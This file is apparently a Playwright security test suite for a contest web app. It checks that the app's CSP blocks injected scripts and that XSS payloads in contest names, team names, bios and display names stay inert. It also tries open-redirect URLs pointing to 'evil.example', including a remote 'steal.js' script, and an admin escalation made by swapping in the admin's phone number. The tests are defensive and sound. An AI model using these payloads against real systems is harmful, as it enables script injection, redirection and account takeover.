// Security in the browser: the host's Content-Security-Policy, script injection through the texts users
// write (contest names, team names, display names, bios) rendered inert, and open-redirect attempts through "next".
import type { Browser, BrowserContext, Page } from 'playwright-core';
import {
  appUrl,
  callApi,
  cognito,
  createActiveUser,
  createContest,
  launchBrowser,
  newPage,
  stack,
  type TestUser,
  tokensFor,
  waitForPath,
} from './helpers';

let browser: Browser;

beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
});

/** Records every CSP violation and every payload that ran, from the first script of each document on. */
async function watchForAttacks(context: BrowserContext) {
  await context.addInitScript(() => {
    const record = window as unknown as { __violations: string[]; __ran: string[] };
    record.__violations = [];
    record.__ran = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      record.__violations.push(
        `${event.effectiveDirective} blocked ${event.blockedURI || 'inline'} (${event.sourceFile}:${event.lineNumber})`,
      );
    });
  });
}

const violations = (page: Page) => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
const payloadsRun = (page: Page) => page.evaluate(() => (window as unknown as { __ran: string[] }).__ran);

describe('Content-Security-Policy of the host', () => {
  it('allows scripts only from the host and the configured remotes, and connections only to them, the API and the pool', async () => {
    const { config } = stack();
    const response = await fetch(appUrl('/home'));
    const policy = response.headers.get('content-security-policy') ?? '';
    const directive = (name: string) =>
      policy
        .split(';')
        .map((part) => part.trim().split(/\s+/))
        .find(([key]) => key === name)
        ?.slice(1) ?? [];
    const remotes = Object.values(config.remotes).map((url) => new URL(url).origin);

    expect(directive('script-src').sort()).toEqual(["'self'", ...remotes].sort());
    expect(directive('connect-src').sort()).toEqual(
      ["'self'", ...remotes, new URL(config.apiHost).origin, new URL(config.auth.userPoolEndpoint ?? '').origin].sort(),
    );
    expect(directive('object-src')).toEqual(["'none'"]);
    expect(directive('frame-ancestors')).toEqual(["'none'"]);
    expect(directive('base-uri')).toEqual(["'self'"]);
  });

  it('refuses a script injected into the page, and the app itself raises no violation', async () => {
    const user = await createActiveUser();
    const { page, context } = await newPage(browser, { user });
    await watchForAttacks(context);
    await page.goto(appUrl('/home'));
    await page.getByRole('heading', { name: 'Your contests' }).waitFor();
    await page.goto(appUrl('/profile'));
    await page.getByText(user.callSign).first().waitFor();
    expect(await violations(page)).toEqual([]);

    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = "window.__ran.push('inline script')";
      document.body.append(script);
      const image = document.createElement('img');
      image.setAttribute('src', 'data:,');
      image.setAttribute('onerror', "window.__ran.push('event handler')");
      image.setAttribute('onload', "window.__ran.push('event handler')");
      document.body.append(image);
      const remote = document.createElement('script');
      remote.src = 'https://evil.example/steal.js';
      document.body.append(remote);
    });
    await page.waitForFunction(() => (window as unknown as { __violations: string[] }).__violations.length >= 3);
    expect(await payloadsRun(page)).toEqual([]);
    expect((await violations(page)).join('\n')).toMatch(/script-src-elem blocked https:\/\/evil\.example/);
    await context.close();
  });
});

describe('script injection through what users write', () => {
  // Each payload pushes to window.__ran if it ever runs: as HTML, as an event handler or as a javascript: link.
  const payload = (label: string) => `<img src=x onerror="__ran.push('${label}')">`;
  const NAME = `<svg/onload=__ran.push(1)><script>__ran.push(2)</script>`;
  const TEAMS: [string, string] = [`<svg onload=__ran.push('team')>`, `javascript:__ran.push('team')`];
  let owner: TestUser & { callSign: string };
  let contestId: string;

  beforeAll(async () => {
    owner = await createActiveUser();
    await callApi('POST', '/user-profile/edit-profile', {
      user: owner,
      body: {
        callSign: owner.callSign,
        ticker: owner.callSign,
        displayName: `<b onmouseover=__ran.push('x')>X</b>`,
        bio: payload('bio'),
      },
    });
    const startsAt = Date.now() + 30 * 60_000;
    contestId = await createContest(owner, {
      name: NAME,
      description: payload('description'),
      startsAt,
      endsAt: startsAt + 3_600_000,
      affiliations: TEAMS,
    });
    await callApi('POST', '/contest/join-contest', {
      user: owner,
      body: { contestId, picks: ['AAPL', 'MSFT'], affiliation: TEAMS[0] },
    });
  });

  const screens: [string, () => string, (page: Page) => Promise<unknown>][] = [
    ['/home', () => '/home', (page) => page.getByText(NAME).first().waitFor()],
    ['/contest-detail', () => `/contest-detail/${contestId}`, (page) => page.getByText(TEAMS[1]).first().waitFor()],
    ['/invitation', () => `/invitation/${contestId}`, (page) => page.getByText(NAME).first().waitFor()],
    ['/edit-picks', () => `/edit-picks/${contestId}`, (page) => page.getByText(NAME).first().waitFor()],
    [
      '/edit-contest',
      () => `/edit-contest/${contestId}`,
      (page) =>
        page.waitForFunction(
          (name) => [...document.querySelectorAll('input')].some((input) => input.value === name),
          NAME,
        ),
    ],
    ['/profile', () => '/profile', (page) => page.getByText(payload('bio')).first().waitFor()],
  ];

  it.each(screens)('%s shows the texts as typed and runs none of them', async (_name, path, shown) => {
    const { page, context } = await newPage(browser, { user: owner });
    await watchForAttacks(context);
    await page.goto(appUrl(path()));
    await shown(page);
    // The injected markup never became elements of the page.
    expect(await page.locator('img[src="x"], svg[onload], b[onmouseover], main script').count()).toBe(0);
    expect(await page.locator('a[href^="javascript:"]').count()).toBe(0);
    expect(await payloadsRun(page)).toEqual([]);
    expect(await violations(page)).toEqual([]);
    await context.close();
  });

  it('a signed-out visitor sees the join information as text too', async () => {
    const { page, context } = await newPage(browser);
    await watchForAttacks(context);
    await page.goto(appUrl(`/join-contest-info/${contestId}`));
    await page.getByText(NAME).first().waitFor();
    expect(await page.locator('img[src="x"], svg[onload]').count()).toBe(0);
    expect(await payloadsRun(page)).toEqual([]);
    expect(await violations(page)).toEqual([]);
    await context.close();
  });
});

describe('open redirects through "next" (SPEC §2)', () => {
  const origin = () => new URL(stack().app).origin;
  const attempts = [
    'https://evil.example/steal',
    '//evil.example/steal',
    '/\\evil.example/steal',
    '\\\\evil.example\\steal',
    'javascript:window.__ran.push("next")',
    'data:text/html,<script>alert(1)</script>',
    `${'http'}://localhost.evil.example/home`,
  ];

  it.each(attempts)('"%s" leaves a signed-in user on Bullpen', async (next) => {
    const user = await createActiveUser();
    const { page, context } = await newPage(browser, { user });
    await watchForAttacks(context);
    await context.addInitScript((value) => {
      if (sessionStorage.getItem('e2e-next')) return;
      localStorage.setItem('next', value);
      sessionStorage.setItem('e2e-next', '1');
    }, next);
    await page.goto(appUrl('/auth'));
    // On Bullpen's own /home, with "next" spent: where the page's contents stand is the home journeys' business.
    await waitForPath(page, '/home');
    expect(new URL(page.url()).origin).toBe(origin());
    expect(await page.evaluate(() => localStorage.getItem('next'))).toBeNull();
    expect(await payloadsRun(page)).toEqual([]);
    await context.close();
  });
});

describe('admin comes only from the user pool group "admins"', () => {
  const role = async (idToken: string) =>
    (
      await callApi<{ user: { role: string } }>('POST', '/user/get-user', {
        tokens: { idToken, accessToken: '', refreshToken: '' },
      })
    ).user.role;

  it("a user who takes an admin's phone number stays a user; the listed admin is one", async () => {
    // USER_POOL_ADMINS is set by global-setup; a stack started elsewhere (E2E_BASE_URL) has no such admin.
    const adminPhone = stack().adminPhone;
    if (!adminPhone) return;
    const admin = await createActiveUser(undefined, { phone: adminPhone });
    const adminTokens = await tokensFor(admin);
    expect(await role(adminTokens.idToken)).toBe('admin');

    const owner = await createActiveUser();
    const contestId = await createContest(owner, {
      name: 'Not yours to cancel',
      startsAt: Date.now() + 3_600_000,
      endsAt: Date.now() + 7_200_000,
    });
    const attacker = await createActiveUser();
    const tokens = await tokensFor(attacker);
    // The attack: change phone_number to the admin's (the pool accepts it, unverified), then refresh.
    await cognito('UpdateUserAttributes', {
      AccessToken: tokens.accessToken,
      UserAttributes: [{ Name: 'phone_number', Value: adminPhone }],
    });
    const refreshed = await cognito<{ AuthenticationResult: { IdToken: string } }>('InitiateAuth', {
      AuthFlow: 'REFRESH_TOKEN_AUTH',
      ClientId: stack().config.auth.userPoolClientId,
      AuthParameters: { REFRESH_TOKEN: tokens.refreshToken },
    });
    const idToken = refreshed.AuthenticationResult.IdToken;
    const claims = JSON.parse(Buffer.from(idToken.split('.')[1] ?? '', 'base64url').toString('utf8'));
    expect(claims.phone_number).toBe(adminPhone);
    expect(claims['cognito:groups']).toBeUndefined();
    expect(await role(idToken)).toBe('user');
    await expect(
      callApi('POST', '/contest/cancel-contest', {
        tokens: { idToken, accessToken: '', refreshToken: '' },
        body: { contestId },
      }),
    ).rejects.toThrow(/403/);

    // The real admin may cancel it.
    await callApi('POST', '/contest/cancel-contest', { tokens: adminTokens, body: { contestId } });
    const after = await callApi<{ contest: { status: string } }>('POST', '/contest/get-contest', {
      user: owner,
      body: { contestId },
    });
    expect(after.contest.status).toBe('cancelled');
  });

  it('the user pool does not answer an unknown or prototype operation, and never dumps its state', async () => {
    for (const name of ['constructor', 'toString', '__proto__', 'hasOwnProperty', 'NoSuchOperation']) {
      const response = await fetch(stack().pool, {
        method: 'POST',
        headers: {
          'content-type': 'application/x-amz-json-1.1',
          'x-amz-target': `AWSCognitoIdentityProviderService.${name}`,
        },
        body: '{}',
      });
      const text = await response.text();
      expect(response.status).toBe(400);
      expect(JSON.parse(text).__type).toMatch(/UnknownOperationException/);
      expect(text).not.toMatch(/refresh|verifier|password|hash/i);
    }
  });
});
